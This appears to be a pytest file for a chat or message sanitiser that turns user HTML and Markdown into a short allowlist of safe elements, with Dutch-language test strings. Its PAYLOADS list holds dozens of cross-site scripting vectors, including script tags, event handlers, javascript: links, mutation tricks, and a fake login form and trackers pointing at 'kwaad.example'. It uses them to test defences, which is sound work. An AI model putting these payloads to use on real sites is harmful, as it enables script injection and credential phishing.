"""What people write becomes a short list of safe elements, whichever way it came in."""

import re

import pytest
from bs4 import BeautifulSoup
from hypothesis import example, given, settings
from hypothesis import strategies as st

from bootcamp.exchange import texts

PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//kwaad.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror=alert(1)//",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<iframe src=javascript:alert(1)>",
    "<object data='data:text/html,<script>alert(1)</script>'></object>",
    "<embed src='javascript:alert(1)'>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href='java&#10;script:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href=' javascript:alert(1)'>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD4='>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='https://x.example' onclick='alert(1)' style='position:fixed' target='_blank'>x</a>",
    "<p style='background:url(javascript:alert(1))'>x</p>",
    "<p onmouseover='alert(1)'>x</p>",
    "<p class='board' id='inhoud'>x</p>",
    "<form action='https://kwaad.example'><input name=wachtwoord><button>Log in</button></form>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<video><source onerror=alert(1)></video>",
    "<body onload=alert(1)>",
    "<base href='https://kwaad.example/'>",
    "<meta http-equiv='refresh' content='0;url=https://kwaad.example'>",
    "<link rel=stylesheet href='https://kwaad.example/x.css'>",
    "<style>*{display:none}</style>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<template><script>alert(1)</script></template>",
    "<xss style='behavior:url(x.htc)'>x</xss>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<a href=\"https://x.example/'onmouseover='alert(1)\">x</a>",
    "<p>\x00<scr\x00ipt>alert(1)</script></p>",
    "<isindex type=image src=1 onerror=alert(1)>",
    "<plaintext>x",
    "<textarea></textarea><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</p></div></main><h1>Nep</h1>",
    "[x](javascript:alert(1))",
    "[x](data:text/html,x)",
    "![x](https://kwaad.example/teller.png)",
    "<javascript:alert(1)>",
    "[x]: javascript:alert(1)\n\n[x]",
    "<a href='//kwaad.example'>x</a>",
    "[x](//kwaad.example)",
]
SAFE_LINK = re.compile(r"(https?://|mailto:)[^\s\"'<>]*", re.IGNORECASE)


def faults(html):
    """Whatever in it isn't on our list."""
    strange = []
    for tag in BeautifulSoup(html, "html.parser").find_all(True):
        allowed = {"href", "rel"} if tag.name == "a" else set()
        if tag.name not in texts.TAGS or set(tag.attrs) - allowed:
            strange.append(str(tag))
        if tag.get("href") and not SAFE_LINK.match(tag["href"]):
            strange.append(tag["href"])
    return strange


def test_the_list_of_faults_finds_something():
    assert faults("<p onclick='x'>a</p><script>1</script><a href='javascript:1'>b</a>") != []


@pytest.mark.parametrize("payload", PAYLOADS)
@pytest.mark.parametrize("read", [texts.clean, texts.from_markdown])
def test_nothing_that_runs_or_reaches_outside_comes_through(read, payload):
    html = read(payload)

    assert faults(html) == []
    assert faults(texts.clean(html)) == []
    assert faults(texts.from_markdown(texts.written(html))) == []


@settings(max_examples=150, deadline=None)
@given(st.text(st.sampled_from("<>/\"'=& \nabpscriptonk:()[]*_-#!`\\\x00"), max_size=80))
def test_no_text_whatever_comes_through_as_something_else(text):
    assert faults(texts.clean(text)) == []
    assert faults(texts.from_markdown(text)) == []


def test_what_the_editor_makes_stays_as_it_is():
    html = (
        "<p>Hoe <strong>vertellen</strong> jullie <em>dat</em>?<br>Graag tips</p>"
        "<ul><li><p>een</p></li></ul><ol><li><p>twee</p></li></ol><blockquote><p>zo</p></blockquote>"
        '<p><a href="mailto:x@school.example" rel="noopener noreferrer nofollow">mail</a></p>'
    )

    assert texts.clean(html) == html


WORD = st.text(st.characters(codec="utf-8", exclude_categories=["C", "Z"]), min_size=1, max_size=8)


def _escaped(words):
    return " ".join(words).replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")


LINE = st.lists(WORD, min_size=1, max_size=4).map(_escaped)
PARAGRAPH = st.lists(LINE, min_size=1, max_size=2).map(lambda lines: f"<p>{'<br>'.join(lines)}</p>")


def _list(tag):
    return lambda items: f"<{tag}>{''.join(f'<li>{item}</li>' for item in items)}</{tag}>"


BLOCK = st.recursive(
    PARAGRAPH,
    lambda inner: st.one_of(
        # Never two lists of one kind in a row: Markdown would take them for one.
        st.tuples(PARAGRAPH, inner).map("".join).map(lambda block: f"<blockquote>{block}</blockquote>"),
        st.lists(PARAGRAPH, min_size=1, max_size=3).map(_list("ul")),
        st.lists(st.one_of(PARAGRAPH, st.tuples(PARAGRAPH, inner).map("".join)), min_size=1, max_size=3).map(
            _list("ol")
        ),
    ),
    max_leaves=4,
)


@settings(max_examples=200, deadline=None)
@given(st.lists(BLOCK, min_size=1, max_size=1), PARAGRAPH)
@example(["<p>1. geen lijst</p>"], "<p># geen kop * en _ zo</p>")
def test_the_plain_box_gives_back_what_the_editor_wrote(blocks, last):
    html = texts.clean("".join([*blocks, last]))

    assert texts.from_markdown(texts.written(html)) == html


def test_marks_of_things_that_messages_do_not_have_stay_text():
    assert texts.from_markdown("# Kop\n\n`code`") == "<p># Kop</p><p>`code`</p>"
    assert texts.from_markdown("eerste regel\ntweede regel") == "<p>eerste regel<br>tweede regel</p>"


def test_the_words_are_what_someone_reads():
    html = '<p>Hallo <strong>daar</strong></p><ul><li><p>een</p></li></ul><p><a href="https://x.example">hier</a></p>'

    assert texts.plain(html) == "Hallo daar\neen\nhier (https://x.example)"
    assert texts.plain("<p> </p><p></p>") == ""
    assert texts.plain("<p>a &lt; b &amp; c</p>") == "a < b & c"
